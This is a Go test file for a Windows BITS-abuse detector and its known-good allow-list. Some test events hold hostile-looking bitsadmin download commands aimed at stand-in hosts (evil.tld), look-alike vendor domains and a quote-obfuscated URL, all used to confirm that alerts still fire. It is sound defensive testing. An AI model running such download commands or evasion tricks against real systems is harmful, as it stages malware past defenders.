package hardened

import (
	"bytes"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
)

// TestShippedListIsEmbedded keeps the compiled-in defaults identical to the
// lookup the app ships.
func TestShippedListIsEmbedded(t *testing.T) {
	shipped, err := os.ReadFile("../../../lookups/bitsscore_known_good.csv")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(shipped, defaultKnownGoodCSV) {
		t.Fatal("src/detect/hardened/known_good.csv differs from lookups/bitsscore_known_good.csv; copy the lookup over it")
	}
	k, err := ParseKnownGood(bytes.NewReader(shipped))
	if err != nil {
		t.Fatal(err)
	}
	if k.Len() < 10 || DefaultKnownGood().Len() != k.Len() {
		t.Errorf("shipped list has %d entries, DefaultKnownGood %d", k.Len(), DefaultKnownGood().Len())
	}
}

func TestParseKnownGoodErrors(t *testing.T) {
	const header = "id,process,parent,host,destination,user,description\n"
	for _, c := range []struct {
		name, csv, want string
	}{
		{"empty", "", "empty, want a header row"},
		{"unknown column", "id,process,parent,host,destination,user,description,extra\n", `line 1: unknown column "extra"`},
		{"missing column", "id,process,parent,host,destination,user\n", `line 1: missing column "description"`},
		{"repeated column", "id,id,process,parent,host,destination,user,description\n", `line 1: column "id" repeated`},
		{"empty id", header + ",x.exe,,,,,d\n", "line 2: empty id"},
		{"bad id", header + "Bad Id,x.exe,,,,,d\n", `line 2: id "Bad Id"`},
		{"no condition", header + "ok,,,,,,d\n", "line 2: entry \"ok\" has no condition"},
		{"only a user", header + "ok,,,,,system,d\n", "line 2: entry \"ok\" has only a user condition"},
		{"host wildcard", header + "ok,,,evil*.com,,,d\n", `line 2: column host: host "evil*.com"`},
		{"host URL", header + "ok,,,https://x.com/,,,d\n", `line 2: column host`},
		{"empty alternative", header + "ok,a.exe||b.exe,,,,,d\n", "line 2: column process: empty alternative"},
		{"duplicate id", header + "a,x.exe,,,,,d\nb,y.exe,,,,,d\na,z.exe,,,,,d\n", `line 4: id "a" already used on line 2`},
		{"built-in id", header + "a,x.exe,,,,,d\nspl_program_name_only,powershell.exe,,,,,d\n", `line 3: id "spl_program_name_only" is a built-in entry`},
		{"short row", header + "a,x.exe,,,\n", "line 2: 5 fields, want 7"},
		{"bad quoting", header + "a,\"x.exe,,,,,d\n", "known-good list: "},
	} {
		_, err := ParseKnownGood(strings.NewReader(c.csv))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: error %v, want it to contain %q", c.name, err, c.want)
		}
	}
}

func TestParseKnownGoodAccepts(t *testing.T) {
	// Columns in any order, a BOM, a quoted description with a comma,
	// "*." before a host, spaces around alternatives.
	const csv = "\ufeffdescription,user,destination,host,parent,process,id\n" +
		"\"Corp tool, nightly\",,,*.corp.example | updates.example.net,,,corp_tool\n"
	k, err := ParseKnownGood(strings.NewReader(csv))
	if err != nil {
		t.Fatal(err)
	}
	if got := k.IDs(); len(got) != 1 || got[0] != "corp_tool" {
		t.Fatalf("IDs = %q", got)
	}
	d := New(k)
	r := score(t, d, transfer(`https://dl.corp.example/tool.exe`))
	if r.risk > knownGoodCeiling || !r.has("known_good:corp_tool") {
		t.Errorf("customer entry: RiskScore %d, Indicators %v", r.risk, r.indicators)
	}
	r = score(t, d, transfer(`https://updates.example.net.evil.tld/tool.exe`))
	if r.risk < AlertThreshold || r.has("known_good:corp_tool") {
		t.Errorf("look-alike host: RiskScore %d, Indicators %v", r.risk, r.indicators)
	}
}

func TestMerge(t *testing.T) {
	extra, err := ParseKnownGood(strings.NewReader("id,process,parent,host,destination,user,description\nvendor_agent,*\\vendor\\agent.exe,,,,,Vendor agent\n"))
	if err != nil {
		t.Fatal(err)
	}
	merged, err := DefaultKnownGood().Merge(extra)
	if err != nil {
		t.Fatal(err)
	}
	if merged.Len() != DefaultKnownGood().Len()+1 {
		t.Errorf("merged has %d entries", merged.Len())
	}
	r := score(t, New(merged), jobCreated(`C:\Users\alice\AppData\Local\Vendor\agent.exe`))
	if r.risk > knownGoodCeiling || !r.has("known_good:vendor_agent") {
		t.Errorf("merged entry: RiskScore %d, Indicators %v", r.risk, r.indicators)
	}
	if _, err := DefaultKnownGood().Merge(DefaultKnownGood()); err == nil || !strings.Contains(err.Error(), `line 2: id "windows_update" is already defined (line 2 of the list it extends)`) {
		t.Errorf("merging the defaults twice: error %v", err)
	}
}

func TestGlob(t *testing.T) {
	for _, c := range []struct {
		p, s string
		want bool
	}{
		{`*\ccmcache\*`, `c:\windows\ccmcache\1\setup.exe`, true},
		{`*\ccmcache\*`, `c:\windows\ccmcache`, false},
		{`*\google\update\*\googleupdate*.exe`, `c:\program files (x86)\google\update\1.3\googleupdatecore.exe`, true},
		{`*$`, `ws01$`, true},
		{`*$`, `alice`, false},
		{`system`, `nt authority\system`, false},
		{`*\system`, `nt authority\system`, true},
		{`a*b*c`, `aXbYbZc`, true},
		{`a*b*c`, `aXbYbZ`, false},
		{``, ``, true},
		{``, `x`, false},
		{`*`, ``, true},
		{`*`, `x`, true},
		{`**`, `x`, true},
		{`abc`, `abc`, true},
		{`abc`, `abcd`, false},
		{`ab*`, `abcd`, true},
		{`ab*`, `a`, false},
		{`*cd`, `abcd`, true},
		{`ab*cd`, `abcd`, true},
		{`ab*cd`, `abc`, false},
		{`ab*bc`, `abc`, false}, // pieces must not overlap
		{`a*a*a`, `aaa`, true},
		{`a*a*a`, `aa`, false},
	} {
		if got := compileGlob([]byte(c.p)).match([]byte(c.s)); got != c.want {
			t.Errorf("glob(%q, %q) = %v, want %v", c.p, c.s, got, c.want)
		}
	}
}

// TestKnownGoodSuppression covers the false positives the rule's authors
// name: each event either scores 0 already (the client and vendor models
// know it), or scores without the list and the shipped list brings it to
// knownGoodCeiling at most, naming itself.
func TestKnownGoodSuppression(t *testing.T) {
	d := New(nil)
	raw := New(&KnownGood{})
	system := `NT AUTHORITY\SYSTEM`
	for _, c := range []struct {
		name    string
		e       event
		entryID string
	}{
		{"Windows Update download as SYSTEM", bitsadmin(`/transfer wu https://download.windowsupdate.com/c/msdownload/update/a.exe C:\Windows\SoftwareDistribution\a.exe`, "User", system), "windows_update"},
		{"Windows Update as machine account (4688)", ev("EventCode", "4688", "NewProcessName", bitsadminExe, "CommandLine", `bitsadmin /transfer wu http://7.au.download.windowsupdate.com/a.exe C:\a.exe`, "SubjectUserName", "WS01$"), "windows_update"},
		{"Delivery Optimization as NETWORK SERVICE (16403)", fileAdded(`http://dl.delivery.mp.microsoft.com/filestreamingservice/files/a.exe`, `C:\Windows\SoftwareDistribution\Download\a.exe`, `NT AUTHORITY\NETWORK SERVICE`), "windows_update"},
		{"Windows Update transfer (59, no user)", transfer(`http://7.au.download.windowsupdate.com/c/msdownload/update/software/defu/am_delta.exe`), "windows_update"},
		{"SCCM under ccmcache", bitsadmin(`/transfer pkg http://sccmdp01/SMS_DP_SMSPKG$/PKG0001/setup.exe C:\Windows\ccmcache\1\setup.exe`, "ParentImage", `C:\Windows\CCM\CcmExec.exe`, "User", system), "sccm_ccmcache"},
		{"SCCM content job (16403)", fileAdded(`https://cmg.cloudapp.net/SMS_DP_SMSPKG$/PKG0001/setup.exe`, `C:\Windows\ccmcache\1\setup.exe`, system), "sccm_ccmcache_job"},
		{"Google Update payload (16403)", fileAdded(`http://edgedl.me.gvt1.com/edgedl/release2/update2/GoogleUpdateSetup.exe`, `C:\Program Files (x86)\Google\Update\Download\GoogleUpdateSetup.exe`, system), "google_update_download"},
		{"Google Update client", jobCreated(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`), "google_update_client"},
		{"Edge Update client", jobCreated(`C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`), "edge_update_client"},
		{"OneDrive per-user job", jobCreated(`C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe`), "onedrive_client"},
		{"Defender platform job", jobCreated(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2107.4-0\MsMpEng.exe`), "defender_client"},
		{"Defender signatures as SYSTEM", fileAdded(`http://definitionupdates.microsoft.com/download/DefinitionUpdates/mpam-fe.exe`, `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\mpam-fe.exe`, system), "defender_updates"},
		{"Firefox update download", transfer(`https://download.mozilla.org/?product=firefox-latest&os=win64&lang=en-US&x=/Firefox%20Setup.exe`), "firefox_download"},
		{"Office CDN", transfer(`http://officecdn.microsoft.com/pr/492350f6/office/data/v64_16.0.1.cab`), "office_cdn_download"},
		{"Office Click-to-Run client", jobCreated(`C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe`), "office_c2r_client"},
		{"Adobe updater job", jobCreated(`C:\Users\alice\AppData\Local\Adobe\ARM\1.0\AdobeARM.exe`), "adobe_update_client"},
		// Dropbox's updater names its job after the temporary file it
		// downloads the new client to.
		{"Dropbox client update (59)", ev("EventCode", "59", "url", `https://edge.dropboxstatic.com/dbx-releng/client/DropboxClient_119.4.1772.exe`, "name", `C:\Users\alice\AppData\Local\Temp\{01D3B6B2-2973-4793-871A-73C3959515FF}-DropboxClient_119.4.1772.exe`), "dropbox_download"},
		{"Push Notification Platform tile image (59)", ev("EventCode", "59", "url", `https://img-s-msn-com.akamaized.net/tenant/amp/entityid/BB1ev7Gj.img?w=204&h=100&m=6&tilesize=wide&ms-scale=100&ms-contrast=standard`, "name", "Push Notification Platform Job: 1"), "windows_push_notification_images"},
		{"Push Notification Platform tile image (16403)", fileAdded(`https://img-s-msn-com.akamaized.net/tenant/amp/entityid/AArXcnF.img?w=204&h=100&m=6&tilesize=wide`, `C:\Users\alice\AppData\Local\Packages\Microsoft.Windows.ShellExperienceHost_cw5n1h2txyewy\AC\Temp\BIT1A2B.tmp`, `CORP\alice`), "windows_push_notification_images"},
		{"Dropbox client update (16403)", fileAdded(`https://edge.dropboxstatic.com/dbx-releng/client/DropboxClient_119.4.1772.exe`, `C:\Users\alice\AppData\Local\Temp\{01D3B6B2-2973-4793-871A-73C3959515FF}-DropboxClient_119.4.1772.exe`, `CORP\alice`), "dropbox_download"},
	} {
		before := score(t, raw, c.e)
		after := score(t, d, c.e)
		want := "known_good:" + c.entryID
		if before.risk == 0 {
			// The client and vendor models (clients.go, vendors.go) already
			// judge it benign: the entry has nothing left to lower.
			if after.risk != 0 {
				t.Errorf("%s: RiskScore %d with the list, 0 without", c.name, after.risk)
			}
			continue
		}
		if after.risk > knownGoodCeiling || !after.has(want) {
			t.Errorf("%s: RiskScore %d, Indicators %v; want <= %d with %s (raw %d %v)", c.name, after.risk, after.indicators, knownGoodCeiling, want, before.risk, before.indicators)
		}
	}
}

// TestKnownGoodScope checks that the entries hold only where they should.
func TestKnownGoodScope(t *testing.T) {
	d := New(nil)
	for _, c := range []struct {
		name string
		e    event
	}{
		{"Windows Update URL run by a user", bitsadmin(`/transfer wu https://download.windowsupdate.com/a.exe C:\Users\alice\AppData\Local\Temp\a.exe`)},
		{"ccmcache destination without CcmExec", bitsadmin(`/transfer pkg https://evil.tld/setup.exe C:\Windows\ccmcache\1\setup.exe`)},
		{"SCCM parent writing elsewhere", bitsadmin(`/transfer pkg https://evil.tld/setup.exe C:\Users\Public\setup.exe`, "ParentImage", `C:\Windows\CCM\CcmExec.exe`)},
		{"OneDrive name in the wrong folder", jobCreated(`C:\Users\alice\AppData\Local\Temp\OneDrive.exe`)},
		{"Google host look-alike", transfer(`https://dl.google.com.evil.tld/a.exe`)},
		{"Windows Update URL in a 4688 that lost its user", ev("EventCode", "4688", "NewProcessName", bitsadminExe, "CommandLine", `bitsadmin /transfer wu https://download.windowsupdate.com/a.exe C:\Users\Public\a.exe`)},
	} {
		r := score(t, d, c.e)
		if r.risk < AlertThreshold {
			t.Errorf("%s: RiskScore %d, Indicators %v; want an alert", c.name, r.risk, r.indicators)
		}
		for _, ind := range r.indicators {
			if strings.HasPrefix(ind, "known_good") {
				t.Errorf("%s: %s matched", c.name, ind)
			}
		}
	}
	// An evasion keeps the score and says which entry it overrode.
	r := score(t, d, bitsadmin(`/transfer wu h"tt"ps://download.windowsupdate.com/a.exe C:\a.exe`, "User", `NT AUTHORITY\SYSTEM`))
	if r.risk < AlertThreshold || !r.has("known_good_overridden:windows_update") || !r.has("quote_obfuscation") {
		t.Errorf("evasion on a known-good host: RiskScore %d, Indicators %v", r.risk, r.indicators)
	}
	// Every URL of the event must be on the entry's hosts.
	r = score(t, d, bitsadmin(`/transfer wu https://download.windowsupdate.com/a.exe C:\a.exe https://evil.tld/b.exe C:\b.exe`, "User", `NT AUTHORITY\SYSTEM`))
	if r.risk < AlertThreshold || r.has("known_good:windows_update") {
		t.Errorf("mixed hosts: RiskScore %d, Indicators %v", r.risk, r.indicators)
	}
}

// referenceGlob is the textbook recursive matcher the compiled globs must
// agree with.
func referenceGlob(p, s string) bool {
	if p == "" {
		return s == ""
	}
	if p[0] == '*' {
		for i := 0; i <= len(s); i++ {
			if referenceGlob(p[1:], s[i:]) {
				return true
			}
		}
		return false
	}
	return s != "" && p[0] == s[0] && referenceGlob(p[1:], s[1:])
}

func TestGlobAgainstReference(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	word := func(alphabet string, n int) string {
		b := make([]byte, r.IntN(n+1))
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		return string(b)
	}
	for range 200000 {
		p, s := word("ab*", 6), word("ab", 8)
		if got, want := compileGlob([]byte(p)).match([]byte(s)), referenceGlob(p, s); got != want {
			t.Fatalf("glob %q on %q = %v, reference %v", p, s, got, want)
		}
	}
}

// TestHostOnlyEntriesAreAnchored: a host-only entry trusts its vendor's
// host, not a name that merely contains it, nor the vendor's other hosts
// where anyone may publish.
func TestHostOnlyEntriesAreAnchored(t *testing.T) {
	d := New(nil)
	for _, e := range []event{
		fileAdded(`https://img-s-msn-com.akamaized.net.evil.tld/tenant/a.img`, `C:\Users\alice\AppData\Local\Temp\a.img`, `CORP\alice`),
		fileAdded(`https://evil-img-s-msn-com.akamaized.net/tenant/a.img`, `C:\Users\alice\AppData\Local\Temp\a.img`, `CORP\alice`),
		transfer(`https://dl.dropboxusercontent.com/s/0a1b2c/DropboxClient_119.4.1772.exe`),
		transfer(`https://edge.dropboxstatic.com.evil.tld/dbx-releng/client/DropboxClient_119.4.1772.exe`),
	} {
		r := score(t, d, e)
		if r.risk < AlertThreshold || slices.ContainsFunc(r.indicators, func(s string) bool { return strings.HasPrefix(s, "known_good") }) {
			t.Errorf("%v: RiskScore %d, Indicators %v; want an alert no entry lowers", e, r.risk, r.indicators)
		}
	}
}
